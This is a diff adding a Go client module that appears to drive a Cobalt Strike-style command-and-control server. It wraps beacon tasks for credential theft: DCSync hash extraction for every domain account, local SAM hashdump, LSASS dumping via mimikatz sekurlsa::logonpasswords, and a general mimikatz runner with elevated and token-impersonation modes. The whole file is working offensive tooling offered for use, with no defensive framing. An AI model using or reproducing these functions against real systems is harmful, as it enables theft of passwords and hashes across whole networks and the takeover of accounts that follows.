@@ -0,0 +1,97 @@
+package csclient
+
+import (
+	"context"
+	"fmt"
+	"strings"
+)
+
+// DcSyncSpawnDto runs dcsync in a spawned process
+type DcSyncSpawnDto struct {
+	Domain string `json:"domain"`
+	User   string `json:"user,omitempty"`
+}
+
+// DCSync extracts password hashes from a domain controller over DRSUAPI. An
+// empty user syncs every account in the domain. Hashes are reported in the
+// task output, so wait on the returned task to collect them.
+func (c *Client) DCSync(ctx context.Context, bid, domain, user string) (*AsyncCommandResponse, error) {
+	if domain == "" {
+		return nil, fmt.Errorf("failed to execute dcsync: %w", &ValidationError{Field: "domain", Value: domain, Reason: "must not be empty"})
+	}
+	var resp AsyncCommandResponse
+	path, err := beaconPath(bid, "/spawn/dcsync")
+	if err != nil {
+		return nil, fmt.Errorf("failed to execute dcsync: %w", err)
+	}
+	if err := c.doRequest(ctx, "POST", path, DcSyncSpawnDto{Domain: domain, User: user}, &resp, true); err != nil {
+		return nil, fmt.Errorf("failed to execute dcsync: %w", err)
+	}
+	return &resp, nil
+}
+
+// Hashdump dumps the local SAM password hashes; requires administrator rights.
+// Parse the task output with ParseHashdump.
+func (c *Client) Hashdump(ctx context.Context, bid string) (*AsyncCommandResponse, error) {
+	var resp AsyncCommandResponse
+	path, err := beaconPath(bid, "/spawn/hashdump")
+	if err != nil {
+		return nil, fmt.Errorf("failed to execute hashdump: %w", err)
+	}
+	if err := c.doRequest(ctx, "POST", path, EmptyDto{}, &resp, true); err != nil {
+		return nil, fmt.Errorf("failed to execute hashdump: %w", err)
+	}
+	return &resp, nil
+}
+
+// Mimikatz execution modes
+const (
+	MimikatzNormal      = "normal"
+	MimikatzElevate     = "elevate"     // Run as SYSTEM (the "!" prefix in the console)
+	MimikatzImpersonate = "impersonate" // Use the current token (the "@" prefix in the console)
+)
+
+// MimikatzSpawnDto runs a mimikatz command in a spawned process
+type MimikatzSpawnDto struct {
+	Command string `json:"command"`
+	Mode    string `json:"mode"`
+}
+
+// LogonPasswords dumps credentials from LSASS (sekurlsa::logonpasswords).
+// Parse the task output with ParseLogonPasswords.
+func (c *Client) LogonPasswords(ctx context.Context, bid string) (*AsyncCommandResponse, error) {
+	var resp AsyncCommandResponse
+	path, err := beaconPath(bid, "/spawn/logonPasswords")
+	if err != nil {
+		return nil, fmt.Errorf("failed to execute logonpasswords: %w", err)
+	}
+	if err := c.doRequest(ctx, "POST", path, EmptyDto{}, &resp, true); err != nil {
+		return nil, fmt.Errorf("failed to execute logonpasswords: %w", err)
+	}
+	return &resp, nil
+}
+
+// Mimikatz runs a mimikatz command such as "sekurlsa::logonpasswords". As in the
+// console, a "!" prefix runs it elevated and "@" with the current token.
+func (c *Client) Mimikatz(ctx context.Context, bid, module string) (*AsyncCommandResponse, error) {
+	mode := MimikatzNormal
+	switch {
+	case strings.HasPrefix(module, "!"):
+		mode, module = MimikatzElevate, module[1:]
+	case strings.HasPrefix(module, "@"):
+		mode, module = MimikatzImpersonate, module[1:]
+	}
+	if strings.TrimSpace(module) == "" {
+		return nil, fmt.Errorf("failed to execute mimikatz: %w", &ValidationError{Field: "module", Value: module, Reason: "must not be empty"})
+	}
+
+	var resp AsyncCommandResponse
+	path, err := beaconPath(bid, "/spawn/mimikatz")
+	if err != nil {
+		return nil, fmt.Errorf("failed to execute mimikatz: %w", err)
+	}
+	if err := c.doRequest(ctx, "POST", path, MimikatzSpawnDto{Command: module, Mode: mode}, &resp, true); err != nil {
+		return nil, fmt.Errorf("failed to execute mimikatz: %w", err)
+	}
+	return &resp, nil
+}